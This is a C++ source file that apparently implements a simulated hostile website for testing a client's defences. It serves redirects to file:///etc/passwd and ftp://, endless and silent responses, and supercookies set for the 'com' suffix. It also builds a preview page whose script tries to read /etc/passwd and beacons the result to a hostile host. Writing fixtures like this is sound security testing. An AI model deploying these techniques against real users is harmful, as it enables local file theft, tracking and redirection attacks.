#include "tools/marketsim/hostile_site.h"

#include "tools/marketsim/site_hosts.h"

namespace velmora::marketsim {
namespace {

SiteResponse RedirectTo(std::string location) {
    SiteResponse response;
    response.status = 302;
    response.headers.emplace_back("Location", std::move(location));
    return response;
}

}  // namespace

SiteResponse HostileSite(const SiteRequest& request) {
    SiteResponse response;
    if (request.path == kToLocalFilePath) return RedirectTo("file:///etc/passwd");
    if (request.path == kToOtherSchemePath)
        return RedirectTo(std::string("ftp://") + kHostileHost + "/pub/");
    if (request.path == kEndlessPath) {
        response.unannouncedBytes = kEndlessBytes;
    } else if (request.path == kSilentPath) {
        response.silent = true;
    } else if (request.path == kSuffixCookiePath) {
        response.headers.emplace_back("Set-Cookie", "hostile=1; Domain=com; Path=/");
        response.headers.emplace_back("Set-Cookie", "hostile2=1; Domain=.com; Path=/");
        response.body = "<html><body>cookie offered</body></html>";
    } else if (request.path == kReportPath) {
        response.body = "ok";
    } else {
        response.status = 404;
    }
    return response;
}

std::string HostilePreviewPage() {
    const std::string report = std::string("http://") + kHostileHost + kReportPath;
    const std::string member =
        std::string("http://") + sites::kMemberCentreHost + "/membersvc/index.htm?from=preview";
    return "<html><head><title>preview</title></head><body><script>\n"
           "var read = 'blocked';\n"
           "try {\n"
           "  var x = new XMLHttpRequest();\n"
           "  x.open('GET', 'file:///etc/passwd', false);\n"
           "  x.send();\n"
           "  if (x.responseText) read = 'read';\n"
           "} catch (e) {}\n"
           "fetch('" +
           report + "?local=' + read, {mode: 'no-cors'}).finally(function() {\n" +
           "  location.href = '" + member + "';\n" + "});\n" + "</script></body></html>";
}

}  // namespace velmora::marketsim
